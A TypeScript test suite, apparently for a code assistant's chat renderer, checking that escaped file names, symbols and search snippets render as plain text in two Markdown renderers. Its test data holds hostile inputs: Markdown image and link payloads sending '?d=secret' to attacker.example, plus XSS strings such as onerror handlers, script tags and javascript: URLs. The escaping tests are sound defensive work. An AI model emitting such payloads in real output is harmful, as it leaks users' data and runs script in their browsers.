import { Marked } from 'marked';
import { codeBlock, inlineCode, markdownText, oneLine } from '../../src/chat/markdown-text';
import { renderMarkdown } from '../../src/chat/render-markdown';
import { answerFromSearch } from '../../src/chat/search-answer';
import { createRandom } from '../../src/random';
import type { ToolResult } from '../../src/tools/semantic-search.tool';

// File names, symbols, refs and directories a repository can hold, and what a model can be made to
// write: each must read as itself, and make nothing (no link, image, emphasis, heading, HTML) in our
// renderer or in duo-ui's (marked), whatever surrounds it.
const HOSTILE = [
  'lib/p`![x](http:attacker)`q.ts',
  'lib/p``![x](http://attacker.example/i.png)``q.ts',
  '[x](https://attacker.example/?d=secret)',
  '![status](https://attacker.example/badge.png?d=secret)',
  '![x][ref]',
  '[ref]: https://attacker.example/',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '<http://attacker.example>',
  '<me@attacker.example>',
  'https://attacker.example/x',
  'http:attacker',
  'www.attacker.example',
  '//attacker.example/x',
  'me@attacker.example',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '**bold** _em_ __strong__ ~~gone~~ *x*',
  '# heading',
  'title\n===',
  '- item',
  '1. item',
  '> quote',
  '| a | b |\n| - | - |',
  '```js\nalert(1)\n```',
  '~~~',
  '    indented code',
  'a\n\n# h\n![x](http://attacker.example/i.png)',
  'a\r\nb\rc',
  'tab\there',
  '`',
  '``',
  '` `',
  '`a`',
  ' ` ',
  ' leading and trailing ',
  '   ',
  '\\',
  '\\`',
  'trailing backslash\\',
  '&lt;img src=x&gt;',
  '&#91;x](http://attacker.example)',
  '&amp;',
  '$x$ $$y$$',
  '{: .class}',
  '^super^',
  'a\u2028b\u2029c',
  'nul\u0000byte',
  'bell\u0007 del\u007f c1\u0085',
  'rtl\u202eexe.ts',
  'emoji 🙂 and ünïcode',
  '*'.repeat(60),
  `${'['.repeat(40)}x${']('.repeat(40)}`,
  '_'.repeat(30),
  'src/a_b_c.ts',
  'x](http://attacker.example) [y',
  '!',
  '',
];

/** Every tag a rendering has, in order. */
const tagsOf = (html: string) => [...html.matchAll(/<([a-zA-Z][a-zA-Z0-9]*)\b/g)].map((match) => match[1].toLowerCase());
const ENTITIES: Record<string, string> = { lt: '<', gt: '>', amp: '&', quot: '"', '#39': "'", '#x27': "'" };
/** What a rendering says as text. */
const textOf = (html: string) =>
  html
    .replace(/<[^>]*>/g, '')
    .replace(/&(lt|gt|amp|quot|#39|#x27);/g, (_match, name: string) => ENTITIES[name])
    .replace(/\n$/, '');

const blankless = (text: string) => text.replace(/[\s\u0000\ufffd]+/g, ' ').trim();

const marked = new Marked({ gfm: true, breaks: false, async: false });
const RENDERERS: Array<[string, (markdown: string) => string]> = [
  ['renderMarkdown', renderMarkdown],
  ["duo-ui's marked (GFM)", (markdown) => marked.parse(markdown) as string],
];

/** Hostile strings made at random from the pieces Markdown is made of (seeded: the same on every run). */
function fuzzed(count: number): string[] {
  const pieces = [
    ...['`', '``', '[', ']', '(', ')', '![', '](', '<', '>', '*', '**', '_', '~~', '#', '|', '\\', '&', ';', ':', '//', '@', '='],
    ...['www.', 'http:', 'https://attacker.example/', 'a', 'b.ts', ' ', '  ', '\n', '\n\n', '\t', '-', '1.', '"', "'", '$', '{', '}'],
    ...['.', 'img', ' src=', '&#96;', '&lt;', 'é', '\u2028', '\r', '---', '```', '~~~', '> ', '    ', 'javascript:'],
  ];
  const random = createRandom(45);
  return Array.from({ length: count }, () =>
    Array.from({ length: 1 + Math.floor(random() * 16) }, () => pieces[Math.floor(random() * pieces.length)]).join(''),
  );
}

const CASES = [...HOSTILE, ...fuzzed(200)];

describe.each(RENDERERS)('escaped text in %s', (_name, render) => {
  it.each(CASES.map((text) => [JSON.stringify(text), text]))('inline code %s is one code span holding the text', (_label, text) => {
    const html = render(`see ${inlineCode(text)} here`);
    expect(tagsOf(html)).toEqual(['p', 'code']);
    expect(textOf(html)).toBe(`see ${oneLine(text) || ' '} here`);
  });

  it.each(CASES.map((text) => [JSON.stringify(text), text]))('%s as text, bold, heading and link text makes nothing', (_label, text) => {
    const shown = oneLine(text).trim();
    const paragraph = render(`before ${markdownText(text)} after`);
    expect(tagsOf(paragraph)).toEqual(['p']);
    expect(textOf(paragraph)).toBe(`before ${shown} after`);
    if (!shown) return;
    const bold = render(`**${markdownText(text)}**`);
    expect(tagsOf(bold)).toEqual(['p', 'strong']);
    expect(textOf(bold)).toBe(shown);
    const heading = render(`## ${markdownText(text)}`);
    expect(tagsOf(heading)).toEqual(['h2']);
    expect(textOf(heading)).toBe(shown);
    const link = render(`1. [${markdownText(text)}](https://docs.gitlab.com/)`);
    expect(tagsOf(link)).toEqual(['ol', 'li', 'a']);
    expect(textOf(link).trim()).toBe(shown);
  });

  it.each(CASES.map((text) => [JSON.stringify(text), text]))('code block %s holds the code as it is', (_label, text) => {
    const html = render(`text\n${codeBlock(text, 'typescript')}\nmore`);
    expect(tagsOf(html)).toEqual(['p', 'pre', 'code', 'p']);
    const code = textOf(/<code[^>]*>([\s\S]*)<\/code>/.exec(html)![1]);
    const expected = text.replace(/\r\n?/g, '\n').replace(/\u0000/g, '\ufffd');
    if (render === renderMarkdown) expect(code).toBe(expected);
    // marked expands tabs, drops trailing blank lines and NUL bytes: the same code, not byte for byte.
    else expect(blankless(code)).toBe(blankless(expected));
  });
});

describe('the answer made from search results with no model', () => {
  const results = (names: string[]): ToolResult[] => [
    {
      status: 'ok',
      content: '',
      sources: [],
      where: `group/project/${names[0]} (main, commit 0123456789ab)`,
      found: names.map((name, index) => ({
        path: `src/${name}.ts`,
        startLine: index + 1,
        endLine: index + 3,
        language: 'typescript',
        symbol: name,
        content: `export const x = "${name}";\n\`\`\`\n![y](https://attacker.example/y.png)`,
      })),
    },
  ];

  it.each(CASES.map((text) => [JSON.stringify(text), text]))(
    'file %s, its symbol and its directory stay text in code, in the list, in the heading and in the snippet',
    (_label, text) => {
      const answer = answerFromSearch(results([text, 'second']), { modelHint: 'Configure a model.' })!;
      for (const [, render] of RENDERERS) {
        const html = render(answer);
        const tags = new Set(tagsOf(html));
        expect([...tags].filter((tag) => !['p', 'strong', 'ol', 'li', 'code', 'pre'].includes(tag))).toEqual([]);
        const codes = [...html.matchAll(/<code[^>]*>([\s\S]*?)<\/code>/g)].map((match) => textOf(match[1]));
        expect(codes).toContain(oneLine(`src/${text}.ts`));
        if (text) expect(codes).toContain(oneLine(text));
        expect(textOf(/<strong>([\s\S]*?)<\/strong>/.exec(html)![1])).toBe(
          oneLine(`group/project/${text} (main, commit 0123456789ab)`).trim(),
        );
      }
    },
  );
});
